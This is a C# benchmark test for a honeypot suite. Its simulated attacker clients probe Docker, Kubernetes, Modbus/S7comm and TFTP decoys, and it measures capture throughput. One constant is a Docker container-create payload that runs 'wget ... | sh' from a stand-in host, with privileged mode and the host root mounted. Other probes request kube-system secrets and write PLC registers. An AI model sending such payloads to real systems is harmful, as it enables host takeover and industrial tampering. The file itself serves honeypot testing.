using System.Buffers.Binary;
using System.Diagnostics;
using System.Globalization;
using System.Net;
using System.Net.Sockets;
using System.Text;
using Decnet.Core.Honeypots.Docker;
using Decnet.Core.Honeypots.Events;
using Decnet.Core.Honeypots.Hosting;
using Decnet.Core.Honeypots.Ics;
using Decnet.Core.Honeypots.Kubernetes;
using Decnet.Core.Honeypots.Tftp;
using Decnet.Tests.Honeypots;

namespace Decnet.Tests.Benchmarks;

/// <summary>
/// Cloud/ICS family: operations per second that concurrent protocol clients complete against the Docker API
/// (GET /version, then POST /containers/create on the same connection), the Kubernetes API (a bearer-token
/// probe of kube-system secrets), the conpot PLC over Modbus/TCP (read holding registers, write a register)
/// and S7comm (COTP connect, setup communication, read var, write var), and the TFTP server (a read of the
/// bait running-config, a small upload), with the intents and credentials captured per second (their events,
/// through the embedded runtime's bounded channel sink). The same clients run against a bare TCP accept
/// loop or a bare UDP loop answering the same canned bytes, in the same run: the cost of the honeypot itself.
/// </summary>
[Collection(BenchmarkCollection.Name)]
public sealed class CloudIcsFamilyBenchmark(ITestOutputHelper output)
{
    private const int Clients = 16;
    private static readonly TimeSpan RunFor = TimeSpan.FromSeconds(8);

    private static readonly byte[] CreateBody = Encoding.ASCII.GetBytes("{\"Image\":\"alpine:3.19\",\"Cmd\":[\"sh\",\"-c\",\"wget -qO- http://198.51.100.9/x.sh | sh\"],\"HostConfig\":{\"Privileged\":true,\"Binds\":[\"/:/host\"]}}");

    // S7comm: COTP connection request to rack 0 slot 2, setup communication, read 4 bytes of DB1, write them.
    private static readonly byte[] CotpConnect = [3, 0, 0, 22, 17, 0xe0, 0, 0, 0, 1, 0, 0xc1, 2, 1, 0, 0xc2, 2, 1, 2, 0xc0, 1, 10];
    private static readonly byte[] S7Setup = [3, 0, 0, 25, 2, 0xf0, 0x80, 0x32, 1, 0, 0, 0, 0, 0, 8, 0, 0, 0xf0, 0, 0, 1, 0, 1, 1, 0xe0];
    private static readonly byte[] S7Item = [0x12, 0x0a, 0x10, 0x02, 0x00, 0x04, 0x00, 0x01, 0x84, 0x00, 0x00, 0x00];
    private static readonly byte[] S7Read = Tpkt([0x32, 1, 0, 0, 0, 2, 0, 14, 0, 0, 0x04, 1, .. S7Item]);
    private static readonly byte[] S7Write = Tpkt([0x32, 1, 0, 0, 0, 3, 0, 14, 0, 8, 0x05, 1, .. S7Item, 0x00, 0x04, 0x00, 0x20, 0xde, 0xad, 0xbe, 0xef]);

    [Fact]
    [Trait("Category", "Benchmark")]
    public async Task Docker_kubernetes_modbus_s7_and_tftp_operations_per_second_honeypot_vs_bare_loops()
    {
        var report = new BenchmarkReport(output, "cloud-ics");
        report.Machine();

        var version = Http("200 OK", "{\"Version\":\"24.0.7\",\"ApiVersion\":\"1.43\"}");
        var created = Http("201 Created", "{\"Id\":\"0123456789ab\",\"Warnings\":[]}");
        await MeasureTcpAsync(report, "docker_api GET /version + POST /containers/create", new DockerApiHoneypotFactory(), 2375,
            e => e.EventType == "container_create" && e.Field("image") is not null, DockerAsync, CountHttpRequests, [version, created]);

        var forbidden = Http("403 Forbidden", "{\"kind\":\"Status\",\"status\":\"Failure\",\"reason\":\"Forbidden\",\"code\":403}");
        await MeasureTcpAsync(report, "k8s bearer-token GET kube-system secrets", new KubernetesApiHoneypotFactory(), 8080,
            e => e.EventType == "auth_attempt" && e.Field("token") is not null, KubernetesAsync, CountHttpRequests, [forbidden]);

        byte[] readReply = [0, 1, 0, 0, 0, 23, 1, 3, 20, .. new byte[20]];
        byte[] writeReply = [0, 2, 0, 0, 0, 6, 1, 6, 0, 1, 0, 7];
        await MeasureTcpAsync(report, "modbus read 10 holding registers + write 1", new ConpotHoneypotFactory(), 502,
            e => e.EventType == "write_attempt" && e.Field("protocol") == "modbus", ModbusAsync, CountMbapFrames, [readReply, writeReply]);

        byte[] connectConfirm = [3, 0, 0, 22, 17, 0xd0, 0, 1, 0, 1, 0, 0xc0, 1, 10, 0xc1, 2, 1, 0, 0xc2, 2, 1, 2];
        byte[] setupAck = Tpkt([0x32, 3, 0, 0, 0, 0, 0, 8, 0, 0, 0, 0, 0xf0, 0, 0, 1, 0, 1, 3, 0xc0]);
        byte[] readAck = Tpkt([0x32, 3, 0, 0, 0, 2, 0, 2, 0, 8, 0, 0, 0x04, 1, 0xff, 0x04, 0x00, 0x20, 0, 0, 0, 0]);
        byte[] writeAck = Tpkt([0x32, 3, 0, 0, 0, 3, 0, 2, 0, 1, 0, 0, 0x05, 1, 0xff]);
        await MeasureTcpAsync(report, "s7comm COTP + setup + read var + write var", new ConpotHoneypotFactory(), 102,
            e => e.EventType == "write_attempt" && e.Field("protocol") == "s7comm", S7Async, CountTpktFrames, [connectConfirm, setupAck, readAck, writeAck]);

        await MeasureTftpAsync(report);
    }

    private async Task MeasureTcpAsync(
        BenchmarkReport report,
        string what,
        IHoneypotServiceFactory factory,
        int port,
        Func<HoneypotEvent, bool> isCapture,
        Func<IPEndPoint, int, CancellationToken, Task> operation,
        Func<byte[], int, int> completeMessages,
        byte[][] cannedReplies)
    {
        var (honeypot, captured, dropped) = await OnHoneypotAsync(factory, port, ServiceTransport.Tcp, isCapture, endPoint => DriveAsync(endPoint, Clients, operation));
        using var bare = new BareAcceptLoop(completeMessages, cannedReplies);
        var reference = await DriveAsync(bare.EndPoint, Clients, operation);
        Record(report, what, $"{Clients} clients", honeypot, reference, "bare TCP accept loop with canned replies, same clients", captured, dropped);
    }

    private async Task MeasureTftpAsync(BenchmarkReport report)
    {
        // Every transfer comes from an address of its own: the per-address transfer cap stays out of the figure.
        const int TftpClients = 8;
        var size = 0;
        var (honeypot, captured, dropped) = await OnHoneypotAsync(new TftpHoneypotFactory(), 69, ServiceTransport.Udp,
            e => e.EventType is "file_captured" or "file_skipped",
            async endPoint =>
            {
                size = await TftpAsync(endPoint, -1, sameSocket: false, CancellationToken.None);
                return await DriveAsync(endPoint, TftpClients, (target, n, token) => TftpAsync(target, n, sameSocket: false, token));
            });
        // The reference serves a file of the bait's size, so both runs move the same blocks.
        using var bare = new BareTftpLoop(size);
        var reference = await DriveAsync(bare.EndPoint, TftpClients, (target, n, token) => TftpAsync(target, n, sameSocket: true, token));
        Record(report, $"tftp RRQ running-config ({size} bytes) + WRQ 200-byte upload", $"{TftpClients} clients", honeypot, reference,
            "bare UDP loop answering the same packets from its one socket, same clients", captured, dropped);
    }

    private static void Record(BenchmarkReport report, string what, string clients, long honeypot, long reference, string referenceName, long captured, long dropped)
    {
        var seconds = RunFor.TotalSeconds;
        report.Figure($"{what}, {clients}, operations/s", honeypot / seconds, "ops/s", referenceName, reference / seconds);
        report.Line(string.Create(CultureInfo.InvariantCulture,
            $"{what}: captured {captured / seconds:0.0}/s ({captured} events for {honeypot} completed operations; {dropped} events dropped)"));
        Assert.True(honeypot > 0 && reference > 0, $"no operation completed: honeypot {honeypot}, bare {reference}");
        // Every operation a client saw answered was captured (a client stopped mid-operation may add a few more).
        Assert.True(captured + dropped >= honeypot, $"{honeypot} operations answered, {captured} captured, {dropped} dropped");
    }

    private static async Task<(long Completed, long Captured, long Dropped)> OnHoneypotAsync(
        IHoneypotServiceFactory factory, int port, ServiceTransport transport, Func<HoneypotEvent, bool> isCapture, Func<IPEndPoint, Task<long>> drive)
    {
        var sink = new ChannelEventSink();
        long captured = 0;
        using var drainStop = new CancellationTokenSource();
        var drain = Task.Run(async () =>
        {
            try
            {
                await foreach (var e in sink.Reader.ReadAllAsync(drainStop.Token))
                {
                    if (isCapture(e))
                    {
                        Interlocked.Increment(ref captured);
                    }
                }
            }
            catch (OperationCanceledException)
            {
                // Stopped after the run.
            }
        });
        long completed;
        await using (var decky = transport == ServiceTransport.Udp
            ? await BenchmarkDecky.StartUdpAsync(factory, sink, port)
            : await BenchmarkDecky.StartAsync(factory, sink, new Dictionary<string, string>(), new SessionLimits(), port))
        {
            completed = await drive(decky.EndPoint);
            Assert.All(decky.Hosted.Statistics(), s => Assert.Equal(0L, s.FaultedSessions));
        }
        sink.Complete();
        await drain.WaitAsync(TimeSpan.FromSeconds(30));
        return (completed, Interlocked.Read(ref captured), sink.DroppedCount);
    }

    /// <summary><paramref name="clients"/> loops for <see cref="RunFor"/>; returns the operations that completed.</summary>
    private static async Task<long> DriveAsync(IPEndPoint target, int clients, Func<IPEndPoint, int, CancellationToken, Task> operation)
    {
        long completed = 0;
        using var stop = new CancellationTokenSource(RunFor);
        var clock = Stopwatch.StartNew();
        await Task.WhenAll(Enumerable.Range(0, clients).Select(worker => Task.Run(async () =>
        {
            for (var n = 0; !stop.IsCancellationRequested; n++)
            {
                try
                {
                    await operation(target, (worker * 1_000_000) + n, stop.Token);
                    Interlocked.Increment(ref completed);
                }
                catch (OperationCanceledException) when (stop.IsCancellationRequested)
                {
                    return;
                }
            }
        })));
        Assert.True(clock.Elapsed < RunFor + TimeSpan.FromSeconds(30), "clients did not stop");
        return completed;
    }

    private static async Task DockerAsync(IPEndPoint target, int n, CancellationToken cancellationToken)
    {
        using var client = new TcpClient { NoDelay = true };
        await client.ConnectAsync(target, cancellationToken);
        var stream = client.GetStream();
        await stream.WriteAsync(Encoding.ASCII.GetBytes($"GET /v1.43/version HTTP/1.1\r\nHost: {target}\r\nUser-Agent: Docker-Client/24.0.7 (linux)\r\n\r\n"), cancellationToken);
        Assert.StartsWith("HTTP/1.1 200", await ReadHttpResponseAsync(stream, cancellationToken), StringComparison.Ordinal);
        byte[] create = [.. Encoding.ASCII.GetBytes(
            $"POST /v1.43/containers/create?name=bench{n} HTTP/1.1\r\nHost: {target}\r\nContent-Type: application/json\r\nContent-Length: {CreateBody.Length}\r\n\r\n"), .. CreateBody];
        await stream.WriteAsync(create, cancellationToken);
        Assert.StartsWith("HTTP/1.1 201", await ReadHttpResponseAsync(stream, cancellationToken), StringComparison.Ordinal);
    }

    private static async Task KubernetesAsync(IPEndPoint target, int n, CancellationToken cancellationToken)
    {
        using var client = new TcpClient { NoDelay = true };
        await client.ConnectAsync(target, cancellationToken);
        var stream = client.GetStream();
        var token = "eyJhbGciOiJSUzI1NiJ9." + Convert.ToBase64String(Encoding.ASCII.GetBytes($"{{\"sub\":\"system:serviceaccount:default:bench{n}\"}}")).TrimEnd('=') + ".c2ln";
        await stream.WriteAsync(Encoding.ASCII.GetBytes(
            $"GET /api/v1/namespaces/kube-system/secrets HTTP/1.1\r\nHost: {target}\r\nAuthorization: Bearer {token}\r\nAccept: application/json\r\nUser-Agent: kubectl/v1.29.0\r\n\r\n"), cancellationToken);
        Assert.StartsWith("HTTP/1.1 ", await ReadHttpResponseAsync(stream, cancellationToken), StringComparison.Ordinal);
    }

    private static async Task ModbusAsync(IPEndPoint target, int n, CancellationToken cancellationToken)
    {
        using var client = new TcpClient { NoDelay = true };
        await client.ConnectAsync(target, cancellationToken);
        var stream = client.GetStream();
        await stream.WriteAsync(new byte[] { 0, 1, 0, 0, 0, 6, 1, 3, 0, 0, 0, 10 }, cancellationToken);
        var read = await ReadMbapAsync(stream, cancellationToken);
        Assert.Equal((byte)3, read[7]);
        var value = (byte)(n % 200);
        await stream.WriteAsync(new byte[] { 0, 2, 0, 0, 0, 6, 1, 6, 0, 1, 0, value }, cancellationToken);
        Assert.Equal((byte)6, (await ReadMbapAsync(stream, cancellationToken))[7]);
    }

    private static async Task S7Async(IPEndPoint target, int n, CancellationToken cancellationToken)
    {
        using var client = new TcpClient { NoDelay = true };
        await client.ConnectAsync(target, cancellationToken);
        var stream = client.GetStream();
        await stream.WriteAsync(CotpConnect, cancellationToken);
        Assert.Equal((byte)0xd0, (await ReadTpktAsync(stream, cancellationToken))[5]);
        foreach (var (request, function) in new[] { (S7Setup, 0xf0), (S7Read, 0x04), (S7Write, 0x05) })
        {
            await stream.WriteAsync(request, cancellationToken);
            var reply = await ReadTpktAsync(stream, cancellationToken);
            Assert.Equal((0x32, 3, function), ((int)reply[7], (int)reply[8], (int)reply[19]));
        }
    }

    /// <summary>One read of running-config and one upload; returns the size of the file read.</summary>
    private static async Task<int> TftpAsync(IPEndPoint target, int n, bool sameSocket, CancellationToken cancellationToken)
    {
        var size = 0;
        using var client = new UdpClient(new IPEndPoint(TestDecky.NextAddress(), 0));
        await Send(client, [0, 1, .. "running-config\0octet\0"u8], target, cancellationToken);
        IPEndPoint? transfer = null;
        for (ushort block = 1; ; block++)
        {
            var data = await client.ReceiveAsync(cancellationToken);
            transfer ??= data.RemoteEndPoint;
            Assert.True(data.Buffer.Length >= 4 && data.Buffer[1] == 3 && BinaryPrimitives.ReadUInt16BigEndian(data.Buffer.AsSpan(2)) == block, Convert.ToHexString(data.Buffer));
            Assert.True(sameSocket || !transfer.Equals(target), "a transfer runs on a port of its own");
            await Send(client, [0, 4, (byte)(block >> 8), (byte)block], transfer, cancellationToken);
            size += data.Buffer.Length - 4;
            if (data.Buffer.Length < 4 + 512)
            {
                break;
            }
        }

        await Send(client, [0, 2, .. Encoding.ASCII.GetBytes($"bench-{n}.bin\0octet\0")], target, cancellationToken);
        var ack0 = await client.ReceiveAsync(cancellationToken);
        Assert.Equal([0, 4, 0, 0], ack0.Buffer);
        var payload = new byte[200];
        BinaryPrimitives.WriteInt32BigEndian(payload, n);
        await Send(client, [0, 3, 0, 1, .. payload], ack0.RemoteEndPoint, cancellationToken);
        var ack1 = await client.ReceiveAsync(cancellationToken);
        Assert.Equal([0, 4, 0, 1], ack1.Buffer);
        return size;
    }

    private static ValueTask<int> Send(UdpClient client, byte[] datagram, IPEndPoint target, CancellationToken cancellationToken) =>
        client.SendAsync(datagram, target, cancellationToken);

    private static byte[] Http(string status, string json) =>
        Encoding.ASCII.GetBytes($"HTTP/1.1 {status}\r\nContent-Type: application/json\r\nContent-Length: {json.Length}\r\n\r\n{json}");

    private static byte[] Tpkt(byte[] s7)
    {
        var frame = new byte[7 + s7.Length];
        frame[0] = 3;
        BinaryPrimitives.WriteUInt16BigEndian(frame.AsSpan(2), (ushort)frame.Length);
        (frame[4], frame[5], frame[6]) = (2, 0xf0, 0x80);
        s7.CopyTo(frame, 7);
        return frame;
    }

    /// <summary>One HTTP/1.1 response: headers, then the body its Content-Length declares.</summary>
    private static async Task<string> ReadHttpResponseAsync(NetworkStream stream, CancellationToken cancellationToken)
    {
        var received = new List<byte>(1024);
        var one = new byte[1];
        while (received.Count < 4 || received[^4] != '\r' || received[^3] != '\n' || received[^2] != '\r' || received[^1] != '\n')
        {
            if (received.Count > 16 * 1024 || await stream.ReadAsync(one, cancellationToken) == 0)
            {
                throw new IOException("no complete response headers");
            }
            received.Add(one[0]);
        }
        var headers = Encoding.ASCII.GetString([.. received]);
        var length = headers.Split("\r\n").Select(l => l.Split(':', 2)).Where(p => p.Length == 2 && p[0].Equals("Content-Length", StringComparison.OrdinalIgnoreCase))
            .Select(p => int.Parse(p[1].Trim(), CultureInfo.InvariantCulture)).SingleOrDefault();
        Assert.True(length is >= 0 and < 1024 * 1024, headers);
        await stream.ReadExactlyAsync(new byte[length], cancellationToken);
        return headers;
    }

    private static async Task<byte[]> ReadMbapAsync(NetworkStream stream, CancellationToken cancellationToken)
    {
        var header = new byte[7];
        await stream.ReadExactlyAsync(header, cancellationToken);
        var rest = new byte[BinaryPrimitives.ReadUInt16BigEndian(header.AsSpan(4)) - 1];
        await stream.ReadExactlyAsync(rest, cancellationToken);
        return [.. header, .. rest];
    }

    private static async Task<byte[]> ReadTpktAsync(NetworkStream stream, CancellationToken cancellationToken)
    {
        var header = new byte[4];
        await stream.ReadExactlyAsync(header, cancellationToken);
        var rest = new byte[BinaryPrimitives.ReadUInt16BigEndian(header.AsSpan(2)) - 4];
        await stream.ReadExactlyAsync(rest, cancellationToken);
        return [.. header, .. rest];
    }

    private static int CountHttpRequests(byte[] data, int count)
    {
        var requests = 0;
        for (var i = 3; i < count; i++)
        {
            if (data[i - 3] == '\r' && data[i - 2] == '\n' && data[i - 1] == '\r' && data[i] == '\n')
            {
                requests++;
            }
        }
        return requests;
    }

    private static int CountMbapFrames(byte[] data, int count) => CountFrames(data, count, 7, offset => 6 + BinaryPrimitives.ReadUInt16BigEndian(data.AsSpan(offset + 4)));

    private static int CountTpktFrames(byte[] data, int count) => CountFrames(data, count, 4, offset => BinaryPrimitives.ReadUInt16BigEndian(data.AsSpan(offset + 2)));

    private static int CountFrames(byte[] data, int count, int headerLength, Func<int, int> frameLength)
    {
        var frames = 0;
        var offset = 0;
        while (offset + headerLength <= count && frameLength(offset) is var length and > 0 && offset + length <= count)
        {
            offset += length;
            frames++;
        }
        return frames;
    }

    /// <summary>
    /// The UDP reference: one socket answering RRQ with the same bytes in 512-byte blocks, WRQ with ACK 0 and
    /// DATA with its ACK, all from the port asked. No transfer state, no files, no events.
    /// </summary>
    private sealed class BareTftpLoop : IDisposable
    {
        private readonly Socket _socket = new(AddressFamily.InterNetwork, SocketType.Dgram, ProtocolType.Udp);
        private readonly CancellationTokenSource _stop = new();

        public BareTftpLoop(int fileSize)
        {
            _socket.Bind(new IPEndPoint(TestDecky.NextAddress(), 0));
            EndPoint = (IPEndPoint)_socket.LocalEndPoint!;
            var file = new byte[fileSize];
            _ = Task.Run(async () =>
            {
                var buffer = new byte[2048];
                while (!_stop.IsCancellationRequested)
                {
                    try
                    {
                        var received = await _socket.ReceiveFromAsync(buffer, new IPEndPoint(IPAddress.Any, 0), _stop.Token);
                        var opcode = buffer[1];
                        var block = BinaryPrimitives.ReadUInt16BigEndian(buffer.AsSpan(2));
                        byte[]? reply = opcode switch
                        {
                            1 => [0, 3, 0, 1, .. file.AsSpan(0, 512)],
                            4 when block * 512 <= file.Length => [0, 3, (byte)((block + 1) >> 8), (byte)(block + 1), .. file.AsSpan(block * 512, Math.Min(512, file.Length - (block * 512)))],
                            2 => [0, 4, 0, 0],
                            3 => [0, 4, buffer[2], buffer[3]],
                            _ => null,
                        };
                        if (reply is not null)
                        {
                            await _socket.SendToAsync(reply, received.RemoteEndPoint, _stop.Token);
                        }
                    }
                    catch (Exception ex) when (ex is OperationCanceledException or ObjectDisposedException)
                    {
                        return;
                    }
                    catch (SocketException)
                    {
                        // An ICMP error from a client gone: the loop goes on.
                    }
                }
            });
        }

        public IPEndPoint EndPoint { get; }

        public void Dispose()
        {
            _stop.Cancel();
            _socket.Dispose();
            _stop.Dispose();
        }
    }
}
